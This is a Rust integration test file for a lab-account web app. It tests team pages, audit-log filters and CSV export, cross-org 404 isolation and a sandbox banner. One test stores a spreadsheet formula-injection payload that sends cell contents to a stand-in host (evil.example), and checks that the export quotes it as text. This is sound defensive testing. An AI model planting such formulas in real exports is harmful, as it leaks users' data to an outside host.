//! Every other page as every role: Teams, the audit log and its CSV export, the 404s across
//! orgs and Teams, and the sandbox marker. The lab account pages are in `pages_accounts`.
use labdesk::domain::ids::{LabAccountId, OrgId};
use labdesk::web::urls;

use crate::support::{
    each_backend, Client, TestApp, CARDIOLOGY, CLINICIAN, CSM, GLOBEX_DOWNTOWN, OPS, OTHER_OPS,
    PRIMARY_CARE,
};

#[test]
fn teams_pages_list_linked_accounts() {
    each_backend(|app| {
        let text = app.login(OPS).get(&urls::teams(&app.world.org_id)).text();
        for expected in [
            "Cardiology",
            "Primary Care",
            "Telehealth West",
            "Quest East",
            "Labcorp (platform)",
        ] {
            assert!(text.contains(expected), "{expected}: {text}");
        }
        let team = app.world.team(CARDIOLOGY);
        let text = app
            .login(OPS)
            .get(&urls::team(&app.world.org_id, team))
            .text();
        assert!(
            text.contains("Team Cardiology")
                && text.contains("Quest East")
                && text.contains("platform-managed"),
            "{text}"
        );
        let clinician = app.login(CLINICIAN);
        let text = clinician.get(&urls::teams(&app.world.org_id)).text();
        assert!(
            text.contains("Primary Care") && !text.contains("Cardiology"),
            "{text}"
        );
    });
}

/// How many audit rows of the demo org name this entity.
fn audit_rows_of(app: &TestApp, entity: &str) -> usize {
    use diesel::prelude::*;
    use labdesk::db::schema::audit_events::dsl as a;
    let n: i64 = a::audit_events
        .filter(a::entity_id.eq(entity))
        .filter(a::org_id.eq(&app.world.org_id))
        .count()
        .get_result(&mut app.conn())
        .unwrap();
    n as usize
}

#[test]
fn audit_page_filters_and_exports_csv() {
    each_backend(|app| {
        let c = app.login(OPS);
        let id = app.world.account("BR-7781");
        let audit = urls::audit(&app.world.org_id);
        let page = c.get(&format!("{audit}?entity_type=lab_account&entity_id={id}"));
        assert_eq!(page.status, 200);
        let text = page.text();
        assert!(
            text.contains("Billing dispute with the lab")
                && text.contains("lab_account.status_changed"),
            "{text}"
        );
        assert!(
            !text.contains("Quest West"),
            "filtered to one account: {text}"
        );
        let by_actor = c.get(&format!("{audit}?actor=nobody%40example.com")).text();
        assert!(by_actor.contains("No audit events match these filters"));
        let future = c.get(&format!("{audit}?from=2999-01-01")).text();
        assert!(future.contains("No audit events match these filters"));
        let today = chrono::Utc::now().format("%Y-%m-%d").to_string();
        let dated = c
            .get(&format!("{audit}?from={today}&to={today}&entity_id={id}"))
            .text();
        assert!(dated.contains("Billing dispute"), "{dated}");
        let bad = c.get(&format!("{audit}?from=yesterday")).text();
        assert!(bad.contains("is not a date like"), "{bad}");

        let csv_url = urls::audit_csv(&app.world.org_id);
        let csv = c.get(&format!("{csv_url}?entity_id={id}"));
        assert_eq!(csv.status, 200);
        assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
        assert!(csv.body.starts_with("id,at_utc,actor_type,actor,action"));
        let mut reader = ::csv::Reader::from_reader(csv.body.as_bytes());
        let rows: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        // Every row the account has, and only its rows.
        assert_eq!(rows.len(), audit_rows_of(app, id.as_str()), "{}", csv.body);
        assert!(rows.iter().all(|r| &r[6] == id.as_str()), "{}", csv.body);

        // Clinicians have no audit page.
        let clinician = app.login(CLINICIAN);
        assert_eq!(clinician.get(&audit).status, 403);
        assert_eq!(clinician.get(&csv_url).status, 403);
    });
}

#[test]
fn another_orgs_or_teams_objects_answer_404() {
    each_backend(|app| {
        let w = &app.world;
        let nw = &w.org_id;
        let globex = &w.other_org_id;
        let globex_account = w.account("88100001");
        let globex_team = w.team(GLOBEX_DOWNTOWN);
        let quest_east = w.account("97500002");
        let cardio = w.team(CARDIOLOGY);
        let missing = "00000000-0000-4000-8000-000000000000";
        let (nw_scope, gx_scope) = (w.org(), w.other_org());
        let cases: Vec<(&str, String)> = vec![
            (OPS, urls::lab_accounts(gx_scope)),
            (OPS, urls::lab_account(gx_scope, globex_account)),
            (OPS, urls::lab_account(nw_scope, globex_account)),
            (OPS, urls::team(globex, globex_team)),
            (OPS, urls::team(nw, globex_team)),
            (OPS, urls::audit(globex)),
            (
                OPS,
                urls::lab_account(nw_scope, &LabAccountId::from_text(missing)),
            ),
            (
                OPS,
                urls::lab_account(nw_scope, &LabAccountId::from_text("not-a-uuid")),
            ),
            (CSM, urls::lab_accounts(gx_scope)),
            (CSM, urls::lab_account(nw_scope, globex_account)),
            (OTHER_OPS, urls::lab_accounts(nw_scope)),
            (OTHER_OPS, urls::lab_account(gx_scope, quest_east)),
            (CLINICIAN, urls::lab_account(nw_scope, quest_east)),
            (CLINICIAN, urls::team(nw, cardio)),
            (
                CLINICIAN,
                format!("{}?team_id={cardio}", urls::lab_accounts(nw_scope)),
            ),
            (CLINICIAN, urls::teams(globex)),
        ];
        let clients: Vec<(&str, Client)> = [OPS, CSM, OTHER_OPS, CLINICIAN]
            .iter()
            .map(|w| (*w, app.login(w)))
            .collect();
        for (who, url) in cases {
            let c = &clients.iter().find(|(w, _)| *w == who).unwrap().1;
            let res = c.get(&url);
            assert_eq!(res.status, 404, "{who} GET {url}: {}", res.text());
            assert!(
                !res.body.contains("Globex Quest") && !res.body.contains("Quest East"),
                "{who} {url} leaked data"
            );
        }
        // Writes to another org's objects are 404 too, and change nothing.
        let ops = &clients[0].1;
        let links_before = (
            app.linked_team_ids(globex_account),
            app.linked_team_ids(quest_east),
        );
        assert!(
            !links_before.0.contains(&cardio.to_string())
                && !links_before.1.contains(&globex_team.to_string())
        );
        let res = ops.post_form(
            &urls::lab_account_teams(nw_scope, globex_account),
            &[("team_id", cardio.as_str())],
        );
        assert_eq!(res.status, 404);
        let res = ops.post_form(
            &urls::lab_account_teams(nw_scope, quest_east),
            &[("team_id", globex_team.as_str())],
        );
        assert_eq!(res.status, 404);
        assert_eq!(
            (
                app.linked_team_ids(globex_account),
                app.linked_team_ids(quest_east)
            ),
            links_before
        );
    });
}

#[test]
fn audit_csv_cells_that_start_like_a_formula_are_quoted_as_text() {
    use labdesk::db::audit::{record, AuditEntry};
    use labdesk::domain::actor::Actor;
    use labdesk::domain::audit::{AuditAction, EntityType};
    each_backend(|app| {
        let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Details")"#;
        let entity = app.world.account("BR-7781");
        record(
            &mut app.conn(),
            &Actor::system("@SUM(1+1)"),
            AuditEntry {
                // Any action the log knows: the stored words are an enum now.
                action: AuditAction::LabAccountUpdated,
                entity_type: EntityType::LabAccount,
                entity_id: entity.as_str(),
                org_id: Some(&app.world.org_id),
                team_id: None,
                summary: formula.to_string(),
                details: serde_json::json!({}),
            },
        )
        .unwrap();
        let c = app.login(OPS);
        let csv = c.get(&format!(
            "{}?entity_id={entity}",
            urls::audit_csv(&app.world.org_id)
        ));
        assert_eq!(csv.status, 200);
        let mut reader = ::csv::Reader::from_reader(csv.body.as_bytes());
        let row = reader
            .records()
            .map(Result::unwrap)
            .find(|r| r[9].contains("HYPERLINK"))
            .unwrap_or_else(|| panic!("the row is exported: {}", csv.body));
        assert_eq!(&row[9], format!("'{formula}"), "summary");
        assert_eq!(&row[3], "'@SUM(1+1)", "actor");
        // Ordinary cells are untouched, and the page shows the summary as it was written.
        assert_eq!(&row[6], entity.as_str());
        let page = c.get(&format!(
            "{}?entity_id={entity}",
            urls::audit(&app.world.org_id)
        ));
        assert!(page.text().contains("=HYPERLINK("), "{}", page.text());
        assert!(!page.text().contains("'=HYPERLINK("), "{}", page.text());
    });
}

/// The layout's header, where the deployment marker sits.
fn topbar(html: &str) -> &str {
    let start = html.find(r#"<header class="topbar">"#).expect("a topbar");
    let end = start + html[start..].find("</header>").expect("its end");
    &html[start..end]
}

#[test]
fn a_sandbox_deployment_says_so_on_every_page_and_production_does_not() {
    for backend in crate::support::backends() {
        for (env, marked) in [("sandbox", true), ("production", false)] {
            let app = TestApp::spawn_in(backend, env);
            let team = app.world.team(PRIMARY_CARE);
            let pages = [
                (OPS, urls::lab_accounts(app.world.org())),
                (OPS, urls::org_orders(&app.world.org_id)),
                (OPS, urls::audit(&app.world.org_id)),
                (CSM, urls::lab_keys()),
                (CLINICIAN, urls::team(&app.world.org_id, team)),
                (CLINICIAN, urls::new_order(&app.world.org_id, team)),
            ];
            for (who, url) in pages {
                let page = app.login(who).get(&url);
                assert_eq!(page.status, 200, "{env} {url}");
                let header = topbar(&page.body);
                // In words, not only a colour (the seeded audit rows may say "Sandbox" elsewhere).
                assert_eq!(header.contains(">Sandbox</strong>"), marked, "{env} {url}");
                assert_eq!(header.contains("Sandbox"), marked, "{env} {url}");
            }
            // The pages outside the signed-in layout: sign-in, and an error page.
            let sign_in = app.client().get(&urls::sign_in());
            let unknown_org = OrgId::new();
            let missing = app
                .login(OPS)
                .get(&urls::lab_accounts(&urls::Scope::Org(unknown_org)));
            for (what, page) in [("sign-in", sign_in), ("404", missing)] {
                let header = topbar(&page.body);
                assert_eq!(header.contains(">Sandbox</strong>"), marked, "{env} {what}");
            }
        }
    }
}
